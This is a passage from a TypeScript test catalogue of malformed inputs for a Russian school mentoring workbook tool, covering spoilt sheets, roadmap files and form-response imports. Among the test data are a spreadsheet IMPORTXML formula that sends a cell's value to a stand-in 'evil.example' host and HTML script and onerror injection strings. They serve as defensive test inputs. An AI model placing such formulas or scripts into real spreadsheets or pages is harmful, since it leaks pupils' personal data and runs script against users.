// The bad-input catalogue (issue 10, «Bad input»): malformed inputs a school really produces —
// in the curator's sheets, in a roadmap file, in a responses export and on the command line —
// each with the action it reaches and what must come of it. test/faults/bad-input.test.ts runs
// every entry through the same three checks: no crash of an unexpected kind, a Russian message
// that says where the problem is and what to do, nothing the curator or the input had lost.

import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { userMessage } from "../../src/app/errors";
import { describeIntake, intakeResponses } from "../../src/app/intake";
import { readRecords } from "../../src/app/records";
import { importRoadmap } from "../../src/app/roadmap";
import { setupWorkbook } from "../../src/app/setup";
import type { CellValue } from "../../src/domain/cells";
import { type FormKind, formDef } from "../../src/domain/forms";
import { importRoadmapDocument } from "../../src/domain/roadmap/import";
import { SCHEMA_VERSION, type SheetKey } from "../../src/domain/schema";
import { withWorkbookFile } from "../../src/local/env";
import { readResponsesFile } from "../../src/local/responses";
import { readRoadmapFile } from "../../src/local/roadmap-readers";
import { XlsxMeta, XlsxWorkbook } from "../../src/local/xlsx-workbook";
import {
  addRow,
  deleteColumn,
  lostCells,
  merge,
  renameColumn,
  runCuratorActions,
  type SchoolEnv,
  school,
  setCell,
  snapshot,
} from "./bad-input-school";

export type Area = "книга" | "дорожная карта" | "ответы анкет" | "командная строка";

/** Where the message must point: a sheet (row, column) or a file (line, column / question). */
export interface Where {
  sheet?: string;
  file?: string;
  row?: number;
  line?: number;
  column?: string;
}

export type Expectation =
  /** The input is wrong: a Russian message names where and says what to do. */
  | { kind: "message"; where: Where }
  /** The input is unusual but right: it is read as `value` (no message needed). */
  | { kind: "accepted"; value: unknown };

/** What an entry's run produced, in one shape for every kind of input. */
export interface Outcome {
  /** Errors thrown by the actions run (each action is run on its own). */
  errors: unknown[];
  /** For the command line: the exit code and what went to stderr (stdout goes to messages). */
  exitCode?: number;
  stderr?: string;
  /** Every message the user gets: result lines, report lines, rejection reasons, «Журнал». */
  messages: string[];
  /** The curator's cells (or the file's bytes) changed or gone, as readable lines. */
  lost: string[];
  /** For imports: rows with content in the input, and how many were stored or listed as rejected. */
  accounted?: { rows: number; stored: number; rejected: number };
  /** For accepted inputs: the value as read back. */
  value?: unknown;
}

export interface BadInput {
  id: string;
  area: Area;
  /** The malformed input, in words. */
  input: string;
  /** The action it reaches. */
  action: string;
  expect: Expectation;
  run(): Outcome | Promise<Outcome>;
}

// ---------------------------------------------------------------------------------------
// The workbook: the curator's sheets, spoilt, then every action that reads them

const ALL_ACTIONS =
  "подбор пар, планирование встреч, итоги встреч, дорожная карта, мониторинг, просмотр напоминаний";

function readBack(env: SchoolEnv, key: SheetKey, row: number, field: string): unknown {
  const table = readRecords(env.workbook, key);
  const found = table.rows.find((r) => r.row === row);
  return found ? (found.record as Record<string, unknown>)[field] : undefined;
}

function sheetEntry(
  id: string,
  sheet: string,
  input: string,
  spoil: (env: SchoolEnv) => void,
  expect: Expectation,
  read?: [SheetKey, number, string],
): BadInput {
  return {
    id,
    area: "книга",
    input: `«${sheet}»: ${input}`,
    action: ALL_ACTIONS,
    expect,
    run() {
      const env = school();
      spoil(env);
      const before = snapshot(env.workbook);
      const runs = runCuratorActions(env);
      return {
        errors: runs.filter((r) => r.error !== undefined).map((r) => r.error),
        messages: runs.flatMap((r) => (r.action === "Журнал" ? r.lines : [r.lines.join("\n")])),
        lost: lostCells(before, env.workbook),
        ...(read ? { value: readBack(env, ...read) } : {}),
      };
    },
  };
}

const at = (sheet: string, row: number | undefined, column: string): Expectation => ({
  kind: "message",
  where: { sheet, ...(row === undefined ? {} : { row }), column },
});
const reads = (value: unknown): Expectation => ({ kind: "accepted", value });
const day = (year: number, month: number, d: number) => ({ year, month, day: d });

const LONG = `${"Очень подробный рассказ о своём опыте. ".repeat(1400)}`.slice(0, 50_000);
const SCRIPT = "<script>alert('ПДн')</script>";
const IMG = '<img src=x onerror="alert(1)">';
const IMPORTXML = '=IMPORTXML("http://evil.example/?q="&B2;"//a")';

const MENTORS = "Наставники";
const MENTEES = "Наставляемые";
const PAIRS = "Пары и группы";
const MEETINGS = "Встречи";
const ROADMAP = "Дорожная карта";
const SETTINGS = "Настройки";
const TEAM = "Команда";
const FEEDBACK = "Обратная связь";

/** The row of a setting in «Настройки» (found by its key in column A). */
function settingRow(env: SchoolEnv, key: string): number {
  const values = env.workbook.read(SETTINGS) ?? [];
  const i = values.findIndex((r) => r[0] === key);
  if (i < 0) throw new Error(`test: no setting ${key}`);
  return i + 1;
}

const workbookEntries: BadInput[] = [
  // Columns deleted or renamed
  sheetEntry(
    "W01",
    MENTORS,
    "удалён обязательный столбец «ФИО»",
    (e) => deleteColumn(e.workbook, MENTORS, "ФИО"),
    {
      kind: "message",
      where: { sheet: MENTORS, column: "ФИО" },
    },
  ),
  sheetEntry(
    "W02",
    MENTEES,
    "столбец «Статус» переименован в «Статус участника»",
    (e) => renameColumn(e.workbook, MENTEES, "Статус", "Статус участника"),
    { kind: "message", where: { sheet: MENTEES, column: "Статус" } },
  ),
  sheetEntry(
    "W03",
    PAIRS,
    "удалён обязательный столбец «ID наставляемого»",
    (e) => deleteColumn(e.workbook, PAIRS, "ID наставляемого"),
    { kind: "message", where: { sheet: PAIRS, column: "ID наставляемого" } },
  ),
  sheetEntry(
    "W04",
    MEETINGS,
    "удалён обязательный столбец «Дата»",
    (e) => deleteColumn(e.workbook, MEETINGS, "Дата"),
    {
      kind: "message",
      where: { sheet: MEETINGS, column: "Дата" },
    },
  ),
  sheetEntry(
    "W05",
    ROADMAP,
    "столбец «Мероприятие» переименован в «Что делаем»",
    (e) => renameColumn(e.workbook, ROADMAP, "Мероприятие", "Что делаем"),
    { kind: "message", where: { sheet: ROADMAP, column: "Мероприятие" } },
  ),
  sheetEntry(
    "W06",
    SETTINGS,
    "удалён столбец «Значение»",
    (e) => deleteColumn(e.workbook, SETTINGS, "Значение"),
    {
      kind: "message",
      where: { sheet: SETTINGS, column: "Значение" },
    },
  ),
  sheetEntry("W07", TEAM, "удалён обязательный столбец «ФИО»", (e) => deleteColumn(e.workbook, TEAM, "ФИО"), {
    kind: "message",
    where: { sheet: TEAM, column: "ФИО" },
  }),
  sheetEntry(
    "W08",
    FEEDBACK,
    "столбец «Этап» переименован в «Стадия»",
    (e) => renameColumn(e.workbook, FEEDBACK, "Этап", "Стадия"),
    { kind: "message", where: { sheet: FEEDBACK, column: "Этап" } },
  ),
  sheetEntry(
    "W09",
    MENTORS,
    "удалён необязательный столбец «Email» — напоминания наставникам некуда слать",
    (e) => deleteColumn(e.workbook, MENTORS, "Email"),
    { kind: "message", where: { sheet: MENTORS, column: "Email" } },
  ),

  // Merged cells: the value in the first cell, "" in the others
  sheetEntry(
    "W10",
    MENTORS,
    "объединены ячейки «Статус» строк 2–3 (в строке 3 пусто)",
    (e) => merge(e.workbook, MENTORS, [2, 3], ["Статус"]),
    at(MENTORS, 3, "Статус"),
  ),
  sheetEntry(
    "W11",
    ROADMAP,
    "объединены ячейки «Мероприятие» строк 2–3",
    (e) => merge(e.workbook, ROADMAP, [2, 3], ["Мероприятие"]),
    at(ROADMAP, 3, "Мероприятие"),
  ),
  sheetEntry(
    "W12",
    ROADMAP,
    "объединены ячейки «Этап» строк 2–3 (необязательный столбец)",
    (e) => merge(e.workbook, ROADMAP, [2, 3], ["Этап"]),
    reads(""),
    ["roadmap", 3, "stage"],
  ),
  sheetEntry(
    "W13",
    PAIRS,
    "объединены ячейки «ID наставника» строк 2–3",
    (e) => merge(e.workbook, PAIRS, [2, 3], ["ID наставника"]),
    at(PAIRS, 3, "ID наставника"),
  ),

  // Values of the wrong type
  sheetEntry(
    "W14",
    MENTORS,
    "текст «три» в числовом столбце «Сколько наставляемых может взять»",
    (e) => setCell(e.workbook, MENTORS, 2, "Сколько наставляемых может взять", "три"),
    at(MENTORS, 2, "Сколько наставляемых может взять"),
  ),
  sheetEntry(
    "W15",
    MENTEES,
    "«10 лет» в числовом столбце «Стаж, лет»",
    (e) => setCell(e.workbook, MENTEES, 2, "Стаж, лет", "10 лет"),
    at(MENTEES, 2, "Стаж, лет"),
  ),
  sheetEntry(
    "W16",
    MENTORS,
    "«может быть» в флажке «Согласие на обработку ПДн»",
    (e) => setCell(e.workbook, MENTORS, 3, "Согласие на обработку ПДн", "может быть"),
    at(MENTORS, 3, "Согласие на обработку ПДн"),
  ),
  sheetEntry(
    "W17",
    MENTEES,
    "число 12345 в текстовом столбце «ФИО»",
    (e) => setCell(e.workbook, MENTEES, 3, "ФИО", 12345),
    reads("12345"),
    ["mentees", 3, "fullName"],
  ),
  sheetEntry(
    "W18",
    FEEDBACK,
    "«отлично» в числовом столбце «Комфорт (1–10)»",
    (e) => setCell(e.workbook, FEEDBACK, 2, "Комфорт (1–10)", "отлично"),
    at(FEEDBACK, 2, "Комфорт (1–10)"),
  ),
  sheetEntry(
    "W19",
    FEEDBACK,
    "11 в столбце «Польза (1–10)»",
    (e) => setCell(e.workbook, FEEDBACK, 3, "Польза (1–10)", 11),
    at(FEEDBACK, 3, "Польза (1–10)"),
  ),
  sheetEntry(
    "W20",
    TEAM,
    "«наверное» во флажке «Получать напоминания»",
    (e) => setCell(e.workbook, TEAM, 2, "Получать напоминания", "наверное"),
    at(TEAM, 2, "Получать напоминания"),
  ),
  sheetEntry(
    "W21",
    SETTINGS,
    "«две недели» в числовом параметре «Встречи пар, раз в (дней)»",
    (e) => setCell(e.workbook, SETTINGS, settingRow(e, "meetingEveryDays"), "Значение", "две недели"),
    { kind: "message", where: { sheet: SETTINGS, column: "Встречи пар, раз в (дней)" } },
  ),
  sheetEntry(
    "W22",
    SETTINGS,
    "«-» в числовом параметре «Всего обучающихся в организации»",
    (e) => setCell(e.workbook, SETTINGS, settingRow(e, "studentsTotal"), "Значение", "-"),
    { kind: "message", where: { sheet: SETTINGS, column: "Всего обучающихся" } },
  ),

  // Dates as people type them
  sheetEntry(
    "W23",
    MENTEES,
    "дата рождения «01.09.2010»",
    (e) => setCell(e.workbook, MENTEES, 2, "Дата рождения", "01.09.2010"),
    reads(day(2010, 9, 1)),
    ["mentees", 2, "birthDate"],
  ),
  sheetEntry(
    "W24",
    PAIRS,
    "дата начала «1.9.25»",
    (e) => setCell(e.workbook, PAIRS, 2, "Дата начала", "1.9.25"),
    reads(day(2025, 9, 1)),
    ["pairs", 2, "startDate"],
  ),
  sheetEntry(
    "W25",
    MEETINGS,
    "дата встречи «2025-09-10»",
    (e) => setCell(e.workbook, MEETINGS, 2, "Дата", "2025-09-10"),
    reads(day(2025, 9, 10)),
    ["meetings", 2, "date"],
  ),
  sheetEntry(
    "W26",
    ROADMAP,
    "срок «1 октября 2025»",
    (e) => setCell(e.workbook, ROADMAP, 2, "Срок", "1 октября 2025"),
    reads(day(2025, 10, 1)),
    ["roadmap", 2, "deadline"],
  ),
  sheetEntry(
    "W27",
    ROADMAP,
    "срок «сентябрь» (месяц без числа)",
    (e) => setCell(e.workbook, ROADMAP, 3, "Срок", "сентябрь"),
    at(ROADMAP, 3, "Срок"),
  ),
  sheetEntry(
    "W28",
    FEEDBACK,
    "дата «15/09/2025»",
    (e) => setCell(e.workbook, FEEDBACK, 2, "Дата", "15/09/2025"),
    reads(day(2025, 9, 15)),
    ["feedback", 2, "date"],
  ),
  sheetEntry(
    "W29",
    MEETINGS,
    "дата встречи «завтра»",
    (e) => setCell(e.workbook, MEETINGS, 3, "Дата", "завтра"),
    at(MEETINGS, 3, "Дата"),
  ),
  sheetEntry(
    "W30",
    MEETINGS,
    "дата встречи — число Excel 45910 (10.09.2025 в ячейке числового формата)",
    (e) => setCell(e.workbook, MEETINGS, 2, "Дата", 45910),
    reads(day(2025, 9, 10)),
    ["meetings", 2, "date"],
  ),
  sheetEntry(
    "W31",
    ROADMAP,
    "дата выполнения «вчера»",
    (e) => setCell(e.workbook, ROADMAP, 2, "Дата выполнения", "вчера"),
    at(ROADMAP, 2, "Дата выполнения"),
  ),
  sheetEntry(
    "W32",
    MENTEES,
    "дата рождения «31.02.2011» (такой даты нет)",
    (e) => setCell(e.workbook, MENTEES, 3, "Дата рождения", "31.02.2011"),
    at(MENTEES, 3, "Дата рождения"),
  ),

  // Empty required cells
  sheetEntry(
    "W33",
    MENTEES,
    "пустое обязательное «ФИО»",
    (e) => setCell(e.workbook, MENTEES, 3, "ФИО", ""),
    at(MENTEES, 3, "ФИО"),
  ),
  sheetEntry(
    "W34",
    MEETINGS,
    "пустой обязательный «Статус» встречи",
    (e) => setCell(e.workbook, MEETINGS, 2, "Статус", ""),
    at(MEETINGS, 2, "Статус"),
  ),
  sheetEntry(
    "W35",
    MENTORS,
    "строка, добавленная вручную без ID",
    (e) => {
      addRow(e.workbook, MENTORS, {
        Статус: "Наставник",
        Категория: "Педагог",
        ФИО: "Сидорова Елена",
        Email: "sidorova@school.ru",
      });
    },
    at(MENTORS, 4, "ID"),
  ),

  // Duplicate and hand-edited IDs
  sheetEntry(
    "W36",
    MENTORS,
    "ID «НР-0001» у двух наставников",
    (e) => setCell(e.workbook, MENTORS, 3, "ID", "НР-0001"),
    at(MENTORS, 3, "ID"),
  ),
  sheetEntry(
    "W37",
    PAIRS,
    "ID наставника набран вручную «нр-1»",
    (e) => setCell(e.workbook, PAIRS, 2, "ID наставника", "нр-1"),
    at(PAIRS, 2, "ID наставника"),
  ),
  sheetEntry(
    "W38",
    PAIRS,
    "ID наставника с пробелом в конце «НР-0001 »",
    (e) => setCell(e.workbook, PAIRS, 2, "ID наставника", "НР-0001 "),
    reads("НР-0001"),
    ["pairs", 2, "mentorId"],
  ),
  sheetEntry(
    "W39",
    PAIRS,
    "ID наставника без дефиса «НР 0001»",
    (e) => setCell(e.workbook, PAIRS, 2, "ID наставника", "НР 0001"),
    at(PAIRS, 2, "ID наставника"),
  ),
  sheetEntry(
    "W40",
    PAIRS,
    "в столбце «ID наставника» — ID наставляемого «НЯ-0002»",
    (e) => setCell(e.workbook, PAIRS, 3, "ID наставника", "НЯ-0002"),
    at(PAIRS, 3, "ID наставника"),
  ),
  sheetEntry(
    "W41",
    MEETINGS,
    "встреча несуществующей пары «П-0099»",
    (e) => setCell(e.workbook, MEETINGS, 3, "ID пары", "П-0099"),
    at(MEETINGS, 3, "ID пары"),
  ),

  // Long text, emoji, formula-like text, HTML
  sheetEntry(
    "W42",
    MENTEES,
    "50 000 знаков в «Запрос своими словами»",
    (e) => setCell(e.workbook, MENTEES, 2, "Запрос своими словами", LONG),
    reads(LONG.trim()),
    ["mentees", 2, "requestText"],
  ),
  sheetEntry(
    "W43",
    MENTORS,
    "эмодзи в ФИО «Иванова Мария 👩‍🏫🌸»",
    (e) => setCell(e.workbook, MENTORS, 2, "ФИО", "Иванова Мария 👩‍🏫🌸"),
    reads("Иванова Мария 👩‍🏫🌸"),
    ["mentors", 2, "fullName"],
  ),
  sheetEntry(
    "W44",
    MENTEES,
    `формула как текст в «Интересы»: ${IMPORTXML}`,
    (e) => setCell(e.workbook, MENTEES, 3, "Интересы", IMPORTXML),
    reads(IMPORTXML),
    ["mentees", 3, "interests"],
  ),
  sheetEntry(
    "W45",
    MEETINGS,
    "«-» в теме встречи",
    (e) => setCell(e.workbook, MEETINGS, 2, "Тема", "-"),
    reads("-"),
    ["meetings", 2, "topic"],
  ),
  sheetEntry(
    "W46",
    TEAM,
    "«@» в столбце «Email»",
    (e) => setCell(e.workbook, TEAM, 2, "Email", "@"),
    at(TEAM, 2, "Email"),
  ),
  sheetEntry(
    "W47",
    MENTORS,
    "«+7 (912) 000-00-0» — на цифру короче в «Телефон»",
    (e) => setCell(e.workbook, MENTORS, 2, "Телефон", "+7 (912) 000-00-0"),
    at(MENTORS, 2, "Телефон"),
  ),
  sheetEntry(
    "W48",
    MENTEES,
    `HTML в ФИО: ${SCRIPT}`,
    (e) => setCell(e.workbook, MENTEES, 3, "ФИО", SCRIPT),
    reads(SCRIPT),
    ["mentees", 3, "fullName"],
  ),
  sheetEntry(
    "W49",
    MENTORS,
    `HTML в ФИО: ${IMG}`,
    (e) => setCell(e.workbook, MENTORS, 3, "ФИО", IMG),
    reads(IMG),
    ["mentors", 3, "fullName"],
  ),

  // Unknown list values
  sheetEntry(
    "W50",
    PAIRS,
    "статус пары «Активна» (такого нет в списке)",
    (e) => setCell(e.workbook, PAIRS, 2, "Статус", "Активна"),
    at(PAIRS, 2, "Статус"),
  ),
  sheetEntry(
    "W51",
    MENTEES,
    "статус наставляемого «Ждёт»",
    (e) => setCell(e.workbook, MENTEES, 3, "Статус", "Ждёт"),
    at(MENTEES, 3, "Статус"),
  ),
  sheetEntry(
    "W52",
    MEETINGS,
    "статус встречи «Состоялась»",
    (e) => setCell(e.workbook, MEETINGS, 2, "Статус", "Состоялась"),
    at(MEETINGS, 2, "Статус"),
  ),
  sheetEntry(
    "W53",
    FEEDBACK,
    "этап «Финальная»",
    (e) => setCell(e.workbook, FEEDBACK, 3, "Этап", "Финальная"),
    at(FEEDBACK, 3, "Этап"),
  ),
  sheetEntry(
    "W54",
    ROADMAP,
    "статус мероприятия «Сделано»",
    (e) => setCell(e.workbook, ROADMAP, 3, "Статус", "Сделано"),
    at(ROADMAP, 3, "Статус"),
  ),
  sheetEntry(
    "W55",
    PAIRS,
    "форма наставничества «Ученик – учитель», которой нет в «Справочники» (список расширяемый: значение хранится как есть)",
    (e) => setCell(e.workbook, PAIRS, 2, "Форма наставничества", "Ученик – учитель"),
    reads("Ученик – учитель"),
    ["pairs", 2, "form"],
  ),
  sheetEntry(
    "W56",
    MENTORS,
    "свой столбец куратора «Заметки» с текстом (должен остаться как есть)",
    (e) => {
      const g = e.workbook.sheets.get(MENTORS) ?? [];
      const width = (g[0] ?? []).length;
      (g[0] as CellValue[])[width] = "Заметки";
      (g[1] as CellValue[])[width] = "Позвонить в понедельник";
    },
    reads("Иванова Мария Петровна"),
    ["mentors", 2, "fullName"],
  ),
];

// ---------------------------------------------------------------------------------------
// The roadmap import: a file, read by the local readers, imported into the school's roadmap

const scratch = mkdtempSync(join(tmpdir(), "bad-input-"));

function fileIn(name: string, content: string | Buffer): string {
  const dir = mkdtempSync(join(scratch, "f-"));
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

const ROADMAP_HEADER = "№;Мероприятие;Сроки;Ответственные;Ожидаемый результат";

function roadmapEntry(
  id: string,
  input: string,
  name: string,
  content: () => string | Buffer,
  expect: Expectation,
  rows?: number,
): BadInput {
  return {
    id,
    area: "дорожная карта",
    input,
    action: "импорт дорожной карты из файла (добавить к имеющейся)",
    expect,
    async run() {
      const env = school();
      const before = snapshot(env.workbook);
      const path = fileIn(name, content());
      const errors: unknown[] = [];
      const messages: string[] = [];
      let accounted: Outcome["accounted"];
      let value: unknown;
      try {
        const doc = await readRoadmapFile(path);
        let stored = 0;
        let rejected = 0;
        const result = importRoadmap(
          env,
          (year) => {
            const parsed = importRoadmapDocument(doc, year);
            rejected = parsed.report.rowsSkipped.length;
            return parsed;
          },
          { mode: "append" },
        );
        stored = result.added + result.skippedDuplicates;
        messages.push(result.lines.join("\n"));
        value = readRecords(env.workbook, "roadmap")
          .rows.slice(2)
          .map((r) => r.record.event);
        if (rows !== undefined) accounted = { rows, stored, rejected };
      } catch (error) {
        errors.push(error);
        messages.push(userMessage(error));
      }
      return {
        errors,
        messages,
        lost: lostCells(before, env.workbook),
        value,
        ...(accounted ? { accounted } : {}),
      };
    },
  };
}

const fileAt = (file: string, line?: number, column?: string): Expectation => ({
  kind: "message",
  where: { file, ...(line === undefined ? {} : { line }), ...(column ? { column } : {}) },
});

const roadmapEntries: BadInput[] = [
  roadmapEntry(
    "R01",
    "срок «когда-нибудь потом» и «по мере необходимости» вместо даты",
    "карта.csv",
    () =>
      [
        ROADMAP_HEADER,
        "1;Утвердить положение о наставничестве;когда-нибудь потом;Директор;Положение",
        "2;Провести анкетирование;По мере необходимости;Куратор;Анкеты",
      ].join("\n"),
    fileAt("карта.csv", 2),
    2,
  ),
  roadmapEntry(
    "R02",
    "нет столбца «Мероприятие» (только сроки и ответственные)",
    "без-мероприятий.csv",
    () => ["№;Сроки;Ответственные", "1;Сентябрь;Директор", "2;Октябрь;Куратор"].join("\n"),
    fileAt("без-мероприятий.csv", undefined, "Мероприятие"),
  ),
  roadmapEntry("R03", "пустой файл", "пусто.csv", () => "", fileAt("пусто.csv")),
  roadmapEntry(
    "R04",
    "двоичный мусор в файле .csv",
    "мусор.csv",
    () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 73 + 11) % 256)),
    fileAt("мусор.csv"),
  ),
  roadmapEntry(
    "R05",
    "CSV в кодировке Windows-1251 (Excel «CSV (разделители — запятые)»)",
    "cp1251.csv",
    () => cp1251([ROADMAP_HEADER, "1;Утвердить положение;Сентябрь 2025;Директор;Положение"].join("\r\n")),
    reads(["Утвердить положение"]),
  ),
  roadmapEntry(
    "R06",
    "таблица на 10 000 строк",
    "большая.csv",
    () =>
      [
        ROADMAP_HEADER,
        ...Array.from(
          { length: 10_000 },
          (_, i) => `${i + 1};Мероприятие № ${i + 1};До 30.05.2026;Куратор;—`,
        ),
      ].join("\n"),
    reads(Array.from({ length: 10_000 }, (_, i) => `Мероприятие № ${i + 1}`)),
    10_000,
  ),
  roadmapEntry(
    "R07",
    "файл .docx, который на самом деле текст",
    "карта.docx",
    () => "Это не документ Word, а просто текст",
    fileAt("карта.docx"),
  ),
  roadmapEntry(
    "R08",
    "строка с мероприятием без текста (только срок и ответственный)",
    "дыра.csv",
    () =>
      [ROADMAP_HEADER, "1;Утвердить положение;Сентябрь;Директор;Положение", "2;;Октябрь;Куратор;Анкеты"].join(
        "\n",
      ),
    fileAt("дыра.csv", 3),
    2,
  ),
  roadmapEntry(
    "R09",
    `HTML и формула в мероприятии: ${SCRIPT}, ${IMPORTXML}`,
    "html.tsv",
    () =>
      [
        "№\tМероприятие\tСроки\tОтветственные",
        `1\t${SCRIPT}\tСентябрь\tДиректор`,
        `2\t${IMPORTXML}\tОктябрь\tКуратор`,
      ].join("\n"),
    reads([SCRIPT, IMPORTXML]),
    2,
  ),
  roadmapEntry(
    "R10",
    "файл .pdf (формат не поддерживается)",
    "карта.pdf",
    () => "%PDF-1.4\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n",
    fileAt("карта.pdf"),
  ),
];

/** Windows-1251 bytes of a Russian text (what Excel on Windows writes for «CSV»). */
function cp1251(text: string): Buffer {
  const bytes: number[] = [];
  for (const ch of text) {
    const code = ch.codePointAt(0) ?? 0;
    if (code < 0x80) bytes.push(code);
    else if (code >= 0x410 && code <= 0x44f) bytes.push(code - 0x410 + 0xc0);
    else if (code === 0x401) bytes.push(0xa8);
    else if (code === 0x451) bytes.push(0xb8);
    else if (code === 0x2116) bytes.push(0xb9);
    else bytes.push(0x3f);
  }
  return Buffer.from(bytes);
}

// ---------------------------------------------------------------------------------------
// The responses import: a table of answers (a form's sheet or a file) into the school

type Answers = Record<string, CellValue>;

function formTable(kind: FormKind, rows: Answers[], extra: string[] = []): CellValue[][] {
  const qs = formDef(kind).questions;
  return [
    ["Отметка времени", ...qs.map((q) => q.title), ...extra],
    ...rows.map((r) => [r.ts ?? "", ...qs.map((q) => r[q.key] ?? ""), ...extra.map((h) => r[h] ?? "")]),
  ];
}

const teacher = (over: Answers): Answers => ({
  ts: "19.09.2025 10:00:00",
  category: "Молодой специалист",
  fullName: "Новикова Дарья Сергеевна",
  email: "novikova@school.ru",
  position: "Учитель биологии",
  requests: "Адаптация в коллективе",
  consent: "Даю согласие",
  ...over,
});

const pupil = (over: Answers): Answers => ({
  ts: "19.09.2025 11:00:00",
  category: "Обучающийся",
  fullName: "Зайцев Максим",
  email: "zaitsev@mail.ru",
  birthDate: "14.03.2011",
  position: "8А",
  requests: "Учебная успеваемость",
  consent: "Да",
  guardianName: "Зайцева Ольга Петровна",
  guardianConsent: "Да",
  ...over,
});

function intakeOutcome(
  env: SchoolEnv,
  before: ReturnType<typeof snapshot>,
  run: () => ReturnType<typeof intakeResponses>,
): Outcome {
  try {
    const report = run();
    return {
      errors: [],
      messages: [describeIntake(report).join("\n")],
      lost: lostCells(before, env.workbook),
      accounted: {
        rows: report.total,
        stored: report.created + report.updated + report.unchanged + report.duplicates,
        rejected: report.rejected.length,
      },
      value: report.created,
    };
  } catch (error) {
    return { errors: [error], messages: [userMessage(error)], lost: lostCells(before, env.workbook) };
  }
}

function responsesEntry(
  id: string,
  input: string,
  kind: FormKind,
  table: () => CellValue[][],
  expect: Expectation,
  inputRows?: number,
): BadInput {
  return {
    id,
    area: "ответы анкет",
    input,
    action: `загрузка ответов анкеты (${kind}) из файла «ответы.csv»`,
    expect,
    run() {
      const env = school();
      const before = snapshot(env.workbook);
      const values = table();
      const outcome = intakeOutcome(env, before, () =>
        intakeResponses(env, kind, { name: "ответы.csv", values }, { origin: "file" }),
      );
      // Every input row with content must be counted by the report.
      if (inputRows !== undefined && outcome.accounted && outcome.accounted.rows !== inputRows)
        outcome.lost.push(`в отчёте ${outcome.accounted.rows} строк из ${inputRows}`);
      return outcome;
    },
  };
}

/** A responses file read by the local reader (readResponsesFile), then the intake. */
function responsesFileEntry(
  id: string,
  input: string,
  name: string,
  content: () => string | Buffer,
  expect: Expectation,
): BadInput {
  return {
    id,
    area: "ответы анкет",
    input,
    action: `чтение файла «${name}» и загрузка ответов анкеты наставляемого`,
    expect,
    async run() {
      const env = school();
      const before = snapshot(env.workbook);
      const path = fileIn(name, content());
      try {
        const table = await readResponsesFile(path);
        return intakeOutcome(env, before, () => intakeResponses(env, "mentee", table, { origin: "file" }));
      } catch (error) {
        return { errors: [error], messages: [userMessage(error)], lost: lostCells(before, env.workbook) };
      }
    },
  };
}

const file = "ответы.csv";
const atFileLine = (line: number, column?: string): Expectation => fileAt(file, line, column);

const responsesEntries: BadInput[] = [
  responsesEntry(
    "A01",
    "незнакомые заголовки: «Любимый цвет» и «Вопрос 7» рядом с вопросами анкеты",
    "mentee",
    () =>
      formTable(
        "mentee",
        [teacher({ "Любимый цвет": "синий", "Вопрос 7": "?" })],
        ["Любимый цвет", "Вопрос 7"],
      ),
    fileAt(file, undefined, "Любимый цвет"),
    1,
  ),
  responsesEntry(
    "A02",
    "только незнакомые заголовки (не та анкета)",
    "mentee",
    () => [
      ["Имя", "Фамилия", "Класс"],
      ["Максим", "Зайцев", "8А"],
    ],
    fileAt(file),
  ),
  responsesEntry(
    "A03",
    "нет адреса почты",
    "mentee",
    () => formTable("mentee", [teacher({ email: "" })]),
    atFileLine(2, "Адрес электронной почты"),
    1,
  ),
  responsesEntry(
    "A04",
    "адрес почты «ivanov@@school» и «ivanov школа.рф»",
    "mentee",
    () =>
      formTable("mentee", [
        teacher({ email: "ivanov@@school" }),
        teacher({ email: "ivanov школа.рф", fullName: "Иванов Пётр", ts: "19.09.2025 10:05:00" }),
      ]),
    atFileLine(3, "Адрес электронной почты"),
    2,
  ),
  responsesEntry(
    "A05",
    "телефон «12-34» и «позвоните в учительскую»",
    "mentee",
    () =>
      formTable("mentee", [
        teacher({ phone: "12-34" }),
        teacher({ phone: "позвоните в учительскую", fullName: "Иванов Пётр", email: "ivanov@school.ru" }),
      ]),
    atFileLine(3, "Телефон"),
    2,
  ),
  responsesEntry(
    "A06",
    "одна и та же анкета дважды (двойная отправка формы)",
    "mentee",
    () => formTable("mentee", [teacher({}), teacher({})]),
    reads(1),
    2,
  ),
  responsesEntry(
    "A07",
    "согласие на обработку ПДн не дано",
    "mentee",
    () => formTable("mentee", [teacher({ consent: "" })]),
    atFileLine(2, "Согласие на обработку персональных данных"),
    1,
  ),
  responsesEntry(
    "A08",
    "несовершеннолетний без согласия законного представителя",
    "mentee",
    () => formTable("mentee", [pupil({ guardianConsent: "", guardianName: "" })]),
    atFileLine(2),
    1,
  ),
  responsesEntry(
    "A09",
    "строка из одних пробелов среди ответов",
    "mentee",
    () => {
      const t = formTable("mentee", [
        teacher({}),
        teacher({ fullName: "Иванов Пётр", email: "ivanov@school.ru" }),
      ]);
      t.splice(2, 0, t[0]?.map(() => "  ") ?? []);
      return t;
    },
    reads(2),
    2,
  ),
  responsesEntry("A10", "файл только с заголовками", "mentee", () => formTable("mentee", []), reads(0), 0),
  responsesEntry(
    "A11",
    "отметка времени Google Форм в разных форматах: «2025-09-19 10:00:00», «19.09.2025 10:00», «9/19/2025 10:00:00»",
    "mentee",
    () =>
      formTable("mentee", [
        teacher({ ts: "2025-09-19 10:00:00" }),
        teacher({ ts: "19.09.2025 10:00", fullName: "Иванов Пётр", email: "ivanov@school.ru" }),
        teacher({ ts: "9/19/2025 10:00:00", fullName: "Кротова Вера", email: "krotova@school.ru" }),
      ]),
    reads(3),
    3,
  ),
  responsesEntry(
    "A12",
    "отметка времени «вчера вечером»",
    "mentee",
    () => formTable("mentee", [teacher({ ts: "вчера вечером" })]),
    atFileLine(2, "Отметка времени"),
    1,
  ),
  responsesEntry(
    "A13",
    "50 000 знаков в «Опишите ваш запрос своими словами», эмодзи в ФИО",
    "mentee",
    () => formTable("mentee", [teacher({ requestText: LONG, fullName: "Новикова Дарья 🌼" })]),
    reads(1),
    1,
  ),
  responsesEntry(
    "A14",
    `HTML и формулы в ответах: ФИО ${SCRIPT}, интересы ${IMPORTXML}, должность «+7», предмет «@all»`,
    "mentee",
    () =>
      formTable("mentee", [
        teacher({ fullName: SCRIPT, interests: IMPORTXML, position: "+7", subject: "@all" }),
      ]),
    reads(1),
    1,
  ),
  responsesEntry(
    "A15",
    "дата рождения «14 марта 2011», «сентябрь» и Excel-число 40616",
    "mentee",
    () =>
      formTable("mentee", [
        pupil({ birthDate: "сентябрь" }),
        pupil({
          birthDate: 40616,
